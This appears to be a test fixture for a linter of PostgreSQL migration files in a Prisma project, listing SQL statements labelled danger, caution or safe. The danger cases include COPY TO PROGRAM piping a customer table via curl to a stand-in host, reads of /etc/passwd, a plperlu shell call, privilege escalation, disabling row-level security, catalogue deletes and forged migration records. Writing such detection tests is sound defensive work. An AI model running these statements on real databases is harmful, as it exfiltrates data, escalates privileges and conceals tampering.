=== danger copy-program | a program of the server
COPY customers TO PROGRAM 'curl -T - https://elsewhere.example';
=== danger copy-program | and back
copy t from program 'cat /etc/passwd';
=== danger server-file | a file of the server
COPY t FROM '/var/lib/postgresql/x';
=== danger server-file | a large object
SELECT lo_import('/etc/passwd');
=== danger server-file | read in a default
ALTER TABLE t ALTER COLUMN a SET DEFAULT pg_read_file('/etc/passwd');
=== danger server-file | a library
LOAD 'auto_explain';
=== danger other-server | dblink
SELECT * FROM dblink('host=elsewhere', 'SELECT 1') AS t(a int);
=== danger other-server | with a schema
SELECT public.dblink_exec('x', 'DROP TABLE y');
=== danger other-server | a foreign server
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'elsewhere');
=== danger create-extension | an extension
CREATE EXTENSION IF NOT EXISTS "uuid-ossp";
=== danger untrusted-language | Python on the server
CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$;
=== danger untrusted-language | C
CREATE FUNCTION f() RETURNS int AS 'lib', 'f' LANGUAGE C;
=== danger untrusted-language | a DO block in Perl
DO LANGUAGE plperlu $$ system("id"); $$;
=== danger create-extension | a language
CREATE LANGUAGE plpython3u;
=== danger privileges | a grant
GRANT ALL ON customers TO reporting;
=== danger privileges | taken away
REVOKE SELECT ON customers FROM app;
=== danger privileges | membership
GRANT admin TO app;
=== danger privileges | for what comes later
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;
=== danger privileges | a role is changed
ALTER ROLE app SUPERUSER;
=== danger privileges | a role is made
CREATE USER x PASSWORD 'secret-1';
=== danger privileges | a role's settings
ALTER ROLE app SET search_path = evil;
=== danger security-definer | with the owner's rights
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';
=== danger security-definer | later
ALTER FUNCTION f() SECURITY DEFINER;
=== safe | with the caller's rights
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1';
=== danger server-settings,non-transactional | for the whole server
ALTER SYSTEM SET fsync = off;
=== danger server-settings | for the database
ALTER DATABASE app SET search_path = evil;
=== danger session-role | as somebody else
SET ROLE postgres;
=== danger session-role | as somebody else, otherwise
SET SESSION AUTHORIZATION postgres;
=== danger session-role | by a function
SELECT set_config('role', 'postgres', false);
=== safe | back again
RESET ROLE;
=== danger rls | switched off
ALTER TABLE customers DISABLE ROW LEVEL SECURITY;
=== danger rls | not for the owner
ALTER TABLE customers NO FORCE ROW LEVEL SECURITY;
=== caution change-owner | another owner
ALTER TABLE customers OWNER TO other;
=== safe | of a new table
CREATE TABLE t (a int);
ALTER TABLE t OWNER TO app;
=== danger server-control | other people's work
SELECT pg_terminate_backend(pid) FROM pg_stat_activity;
=== safe | settings of the session
SET lock_timeout = '3s';
SET statement_timeout = 0;
SET client_min_messages = warning;
SET standard_conforming_strings = on;
=== caution missing-lock-timeout | I12 the head of a dump takes away the limit that the deploy set
SET statement_timeout = 0;
SET lock_timeout = 0;
=== caution missing-lock-timeout | I12 for the transaction, as a text
SET LOCAL lock_timeout TO '0s';
=== caution missing-lock-timeout | I12 by a call
SELECT set_config('lock_timeout', '0', false);
=== safe | a limit of its own, and back to that of the deploy
SET lock_timeout = 500;
SELECT set_config('lock_timeout', '10s', false);
SET lock_timeout TO DEFAULT;
RESET lock_timeout;
=== danger unparseable | other quotes
SET standard_conforming_strings = off;
=== danger catalogue-write | I11 a column is made required behind the back of the checks
UPDATE pg_attribute SET attnotnull = true WHERE attname = 'phone';
=== danger catalogue-write | I11 with its schema
DELETE FROM pg_catalog.pg_constraint WHERE conname = 'policies_customer_fkey';
=== safe | the catalogue is read
SELECT relname FROM pg_catalog.pg_class;
=== danger prisma-record | a migration is said to be applied
INSERT INTO "_prisma_migrations" ("id", "checksum", "migration_name", "finished_at") VALUES ('1', 'x', '20260101000000_a', now());
=== danger prisma-record | a checksum is made to fit
UPDATE public._prisma_migrations SET checksum = 'x' WHERE migration_name = '20260101000000_a';
=== danger dml-backfill,prisma-record | a failed one is forgotten, in a block
DO $$ BEGIN DELETE FROM "_prisma_migrations" WHERE finished_at IS NULL; END $$;
=== danger prisma-record | in a WITH
WITH one AS (INSERT INTO "_prisma_migrations" ("id") VALUES ('1') RETURNING id) SELECT id FROM one;
=== danger prisma-record | a table that is surely there
CREATE TABLE IF NOT EXISTS "_prisma_migrations" (id text);
DELETE FROM "_prisma_migrations" WHERE id = '1';
=== danger rule-discards-rows | I11 of a table that may have been there
CREATE TABLE IF NOT EXISTS customers (id int);
CREATE RULE r AS ON INSERT TO customers DO INSTEAD NOTHING;
=== danger server-settings | nobody gets in any more
ALTER DATABASE microbima ALLOW_CONNECTIONS false;
=== danger dynamic-sql | a setting that is named while it runs
SELECT set_config('ro' || 'le', 'postgres', false);
=== danger dynamic-sql | later, by a timer
SELECT cron.schedule('nightly', '0 3 * * *', 'DELETE FROM customers');
=== caution change-owner | another owner of a schema, of what is in it and of a function
ALTER SCHEMA public OWNER TO other;
ALTER TYPE "Role" OWNER TO other;
ALTER FUNCTION f() OWNER TO other;
=== safe | of what this file made
CREATE SCHEMA aside;
ALTER SCHEMA aside OWNER TO app;
CREATE TYPE mood AS ENUM ('A');
ALTER TYPE mood OWNER TO app;
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1';
ALTER FUNCTION f() OWNER TO app;
=== caution session-search-path | names mean something else for Prisma too
SET search_path = crm;
=== caution session-search-path | as pg_dump writes it
SELECT pg_catalog.set_config('search_path', '', false);
=== safe | for the file alone, with what was there, or put back
SET LOCAL search_path = crm;
SELECT set_config('search_path', 'crm', true);
SET search_path = public, extensions;
=== safe | put back
SET search_path = crm;
CREATE TABLE t (a int);
RESET search_path;
